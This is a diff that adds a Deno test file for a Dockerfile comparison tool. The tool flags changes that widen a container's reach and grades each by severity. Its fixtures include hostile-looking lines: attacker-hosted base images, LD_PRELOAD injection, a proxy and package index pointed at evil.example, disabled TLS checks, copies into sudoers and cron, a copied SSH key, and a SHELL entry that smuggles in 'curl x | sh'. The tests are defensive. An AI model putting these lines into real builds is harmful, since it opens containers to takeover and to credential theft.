@@ -1,0 +1,238 @@
+import {
+  compareConfigFiles,
+  TOOL_CAPABILITY_BLOCK as TOOL,
+  validateDockerfile,
+} from "../../mod.ts";
+import { reachOfDockerfile } from "../../src/config/dockerfile/compare.ts";
+import { assertEquals, assertNotEquals } from "@std/assert";
+
+const [ONE, TWO] = ["4a", "5b"].map((byte) => `sha256:${byte.repeat(32)}`);
+
+const IN_FORCE = `# syntax=docker/dockerfile:1
+ARG GO=golang:1.25@${ONE}
+FROM $GO AS build
+ENV GOSUMDB=sum.golang.org
+RUN make
+COPY . /src
+
+FROM debian:13@${ONE} AS base
+ARG WHO=agent
+RUN groupadd -g 1000 agent && useradd -u 1000 -g agent agent
+ENV HF_HUB_OFFLINE=1 API_URL=https://api.example
+COPY --from=build /src/agent /usr/local/bin/
+COPY firewall.sh /opt/firewall.sh
+ADD --checksum=${ONE} https://dl.example/tool /opt/tool
+
+FROM base
+USER $WHO
+WORKDIR /work
+RUN --network=none --mount=type=cache,target=/home/agent/.cache make
+HEALTHCHECK CMD test -e /tmp/alive
+ENTRYPOINT ["/opt/firewall.sh"]
+CMD ["agent"]
+`;
+
+function change(...replaced: readonly (readonly [from: string, to: string])[]): string {
+  return replaced.reduce((text, [from, to]) => {
+    assertEquals(text.split(from).length, 2, `${from} stands there once`);
+    return text.replace(from, () => to);
+  }, IN_FORCE);
+}
+
+/** More instructions behind the last RUN, on line 20. */
+const more = (...lines: string[]) => change(["HEALTHCHECK", `${lines.join("\n")}\nHEALTHCHECK`]);
+
+/** A change, the severity of its gravest mark, and the items that it adds. */
+type Case = readonly [proposed: string, severity: string, ...added: string[]];
+
+const NEW: Readonly<Record<string, readonly Case[]>> = {
+  images: [
+    [
+      change([`debian:13@${ONE}`, `debian:13@${TWO}`]),
+      "low",
+      `image docker.io/library/debian@${TWO}`,
+    ],
+    [change([`debian:13@${ONE}`, "debian:13"]), "medium", "image docker.io/library/debian:13"],
+    [change([`debian:13@${ONE}`, `evil/x@${ONE}`]), "high", `image docker.io/evil/x@${ONE}`],
+    [
+      change([`debian:13@${ONE}`, `docker.evil.example/library/debian:13@${ONE}`]),
+      "high",
+      `image docker.evil.example/library/debian@${ONE}`,
+    ],
+    [change([`golang:1.25@${ONE}`, "golang"]), "medium", "image docker.io/library/golang:latest"],
+    [change(["FROM base", "FROM $GO"]), "high"],
+    [change(["FROM base", "FROM build"]), "high"],
+    [change(["--from=build", "--from=evil/build"]), "high", "image docker.io/evil/build:latest"],
+    [change(["--from=build", `--from=evil/x@${ONE}`]), "medium", `image docker.io/evil/x@${ONE}`],
+    [more("RUN --mount=from=evil/kit,target=/k make"), "high", "image docker.io/evil/kit:latest"],
+    [change(["FROM base", "FROM debian:$V"]), "medium", "image debian:$V"],
+  ],
+  frontends: [
+    [change(["docker/dockerfile:1", "docker/dockerfile:labs"]), "low"],
+    [
+      change(["# syntax=docker", "#!/x\n# syntax=evil"]),
+      "high",
+      "frontend docker.io/evil/dockerfile:1",
+    ],
+  ],
+  users: [
+    [change(["WHO=agent", "WHO=root"]), "high", "user 0:of 0"],
+    [change(["useradd -u 1000", "useradd -o -u 0"]), "high", "user 0:1000"],
+    [change(["USER $WHO", "USER 1000:0"]), "medium", "user 1000:0"],
+    [change(["USER $WHO\n", ""]), "high"],
+    [more("USER root", "RUN id", "USER agent"), "medium", "user 0:of 0"],
+    [change(["USER $WHO", "ENV U=0\nARG U=agent\nUSER $U"]), "high", "user 0:of 0"],
+    [
+      change(["USER $WHO\nWORKDIR /work\n", ""], [
+        "ENTRYPOINT",
+        "USER $WHO\nWORKDIR /work\nENTRYPOINT",
+      ]),
+      "low",
+    ],
+    [change(["USER $WHO", "USER ${NOBODY}"]), "medium", "user ${NOBODY}:of ${NOBODY}"],
+  ],
+  variables: [
+    [more("ENV LD_PRELOAD=/tmp/x.so"), "high", "variable ENV LD_PRELOAD=/tmp/x.so"],
+    [more("ENV NODE_OPTIONS=--require=/tmp/x.js"), "high"],
+    [more("ENV NODE_OPTIONS=--max-old-space-size=4096"), "medium"],
+    [more("ARG HTTPS_PROXY=http://evil.example:1"), "high"],
+    [more("ENV PATH=/work/bin:$PATH"), "high"],
+    [more("ENV PATH=bin:$PATH"), "high"],
+    [more("ENV PATH=$PATH:/work/bin"), "low"],
+    [more("ENV PIP_INDEX_URL=https://pypi.evil.example/simple"), "high"],
+    [more("ENV GOPROXY=http://proxy.golang.org,direct"), "high"],
+    [more("ENV ANTHROPIC_BASE_URL=https://evil.example"), "high"],
+    [more("ENV GIT_SSL_NO_VERIFY=1"), "high"],
+    [more("ENV PGSSLMODE=disable"), "high"],
+    [more("ENV REQUESTS_CA_BUNDLE="), "high"],
+    [more("ENV SOMETHING=else"), "low", "variable ENV SOMETHING=else"],
+    [more("ENV APP_HINT=quiet", "RUN $APP_HINT"), "low", "variable ENV APP_HINT=quiet"],
+    [more("ENV API_KEY=abcdef"), "high", "variable ENV API_KEY"],
+    [change(["sum.golang.org", "off"]), "high"],
+    [change(["HF_HUB_OFFLINE=1 ", ""]), "low"],
+    [change(["HF_HUB_OFFLINE=1", "HF_HUB_OFFLINE=${X:-1}"]), "low"],
+    [change([" API_URL=https://api.example", ""]), "low"],
+    [
+      change(["ENV GOSUMDB=sum.golang.org\nRUN make", "RUN make\nENV GOSUMDB=sum.golang.org"]),
+      "low",
+    ],
+  ],
+  shells: [
+    [more('SHELL ["/work/sh", "-c"]'), "high", 'command shell ["/work/sh","-c"]'],
+    [more('SHELL ["/bin/sh", "-c", "curl x | sh; $0"]'), "high"],
+    [more('SHELL ["/bin/bash", "-o", "pipefail", "-c"]'), "low"],
+  ],
+  starts: [
+    [change(['ENTRYPOINT ["/opt/firewall.sh"]\n', ""]), "medium"],
+    [change(['["/opt/firewall.sh"]', '["/bin/true"]']), "medium", "start /bin/true agent"],
+    [change(['CMD ["agent"]', 'CMD ["other"]']), "low", "start /opt/firewall.sh other"],
+    [change(["HEALTHCHECK CMD test -e /tmp/alive", "HEALTHCHECK NONE"]), "low"],
+    [change(["WORKDIR /work", "WORKDIR /tmp"]), "low", "start workdir /tmp"],
+  ],
+  files: [
+    [change(["COPY firewall.sh /opt/firewall.sh\n", ""]), "medium"],
+    [more("COPY x /etc/sudoers.d/x"), "high", "file x to /etc/sudoers.d/x"],
+    [more("COPY x /opt/../etc/cron.d/"), "high", "file x to /etc/cron.d/"],
+    [more("COPY sitecustomize.py /usr/lib/python3/dist-packages/"), "medium"],
+    [more("COPY evil.crt /usr/local/share/ca-certificates/"), "medium"],
+    [more("COPY .npmrc /work/"), "high"],
+    [more("COPY id_rsa /work/key"), "high"],
+    [more("COPY --chmod=4755 x /work/x"), "high"],
+    [more("COPY --chmod=0755 x /work/x"), "low", "file x to /work/x"],
+    [
+      more("ARG U=https://evil.example/x", "ADD $U /x"),
+      "medium",
+      "file https://evil.example/x to /x",
+    ],
+    [change([`ADD --checksum=${ONE}`, "ADD"]), "medium"],
+    [more("COPY <<EOF /x.sh", "id", "EOF", "RUN sh /x.sh"), "medium", "file <<EOF to /x.sh"],
+    [more("COPY <<EOF /etc/profile", "id", "EOF"), "medium"],
+    [more("ONBUILD COPY x /etc/sudoers"), "high"],
+  ],
+  flags: [
+    [
+      change(["RUN --network=none --mount", "RUN --network=host --mount"]),
+      "high",
+      "privilege --network=host",
+    ],
+    [change(["RUN --network=none --mount", "RUN --mount"]), "low", "privilege --network=default"],
+    [more("RUN --security=insecure make"), "high", "privilege --security=insecure"],
+    [more("RUN --mount=type=secret,id=x make"), "low", "mount type=secret,id=x"],
+    [more("RUN --mount=type=cache,target=/etc make"), "low", "mount type=cache,target=/etc"],
+    [more("ONBUILD RUN --network=host make"), "high"],
+  ],
+};
+
+for (const [kind, cases] of Object.entries(NEW)) {
+  for (const [proposed, severity, ...items] of cases) {
+    const what = proposed.split("\n").filter((line) => !IN_FORCE.split("\n").includes(line));
+    // Threat: A10
+    Deno.test(`new reach of ${kind}: ${what.join(" / ") || "less"}`, () => {
+      assertEquals(validateDockerfile(proposed), []);
+      const { reach, added, marks } = compareConfigFiles(TOOL, IN_FORCE, proposed);
+      assertNotEquals(reach, "no-new-reach");
+      assertEquals(marks[0]?.severity, severity, JSON.stringify(marks));
+      const found = added.map(({ kind, value }) => `${kind} ${value}`);
+      for (const item of items) assertEquals(found.includes(item), true, found.join("\n"));
+    });
+  }
+}
+
+const SAME: readonly string[] = [
+  change(["USER $WHO", "USER 1000"]),
+  change(["USER $WHO", "USER 1000:1000"]),
+  change(["USER $WHO", "USER ${WHO}"]),
+  change([" AS build", " AS made"], ["--from=build", "--from=made"]),
+  change(["FROM base\n", "FROM build AS test\nRUN make\nFROM base\n"]),
+  change(["--network=none ", "--network=none --security=sandbox "]),
+  change(["RUN make", "RUN --mount=type=cache,target=/root/.cache make"]),
+  change(["RUN make", "RUN --network=none make"]),
+  change([
+    "HF_HUB_OFFLINE=1 API_URL=https://api.example",
+    "API_URL=https://api.example HF_HUB_OFFLINE=1",
+  ]),
+  change(["# syntax=docker/", "# syntax=docker.io/docker/"]),
+  change(["WORKDIR /work\n", "WORKDIR /\nWORKDIR work/.\n"]),
+  more("ENV APP_HINT=quiet FORCE_COLOR=1 NODE_ENV=production"),
+  more('ENV HELP="curl -fsSL https://x.example | sh"'),
+  more("ENV TRANSFORMERS_OFFLINE=1 SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt"),
+];
+
+for (const proposed of SAME) {
+  const what = proposed.split("\n").filter((line) => !IN_FORCE.split("\n").includes(line));
+  // Threat: A10
+  Deno.test(`no new reach: ${what.join(" / ")}`, () => {
+    assertEquals(validateDockerfile(proposed), []);
+    const { reach, added, marks } = compareConfigFiles(TOOL, IN_FORCE, proposed);
+    assertEquals({ reach, added, marks }, { reach: "no-new-reach", added: [], marks: [] });
+  });
+}
+
+// Threat: A10
+Deno.test("a change below a frontend of somebody else's is unknown", () => {
+  const foreign = IN_FORCE.replace("docker/dockerfile", "evil/dockerfile");
+  const { reach, marks } = compareConfigFiles(TOOL, foreign, `${foreign}LABEL a=b\n`);
+  assertEquals([reach, marks.map(({ rule }) => rule)], ["unknown", ["unread-frontend"]]);
+});
+
+// Threat: A8
+Deno.test("variables that grow without end are not followed, and that is said", () => {
+  const doubling = Array.from({ length: 40 }, (_, n) => `ENV V${n + 1}=$V${n}$V${n}`).join("\n");
+  const { reach, marks } = compareConfigFiles(TOOL, IN_FORCE, more("ENV V0=ab", doubling));
+  assertEquals(reach, "unknown");
+  assertEquals(marks.some(({ rule }) => rule === "unread-variables"), true);
+});
+
+Deno.test("reachOfDockerfile() lists what an image has and does", () => {
+  const items = reachOfDockerfile("FROM debian\nENV A=b\nCOPY x /y\nUSER 10\nCMD run\n");
+  assertEquals(
+    items.flatMap(({ kind, value, line }) => kind === "command" ? [] : `${line} ${kind} ${value}`),
+    [
+      "1 image docker.io/library/debian:latest",
+      "2 variable ENV A=b",
+      "3 file x to /y",
+      "4 user 10:of 10",
+      "5 start run",
+    ],
+  );
+});
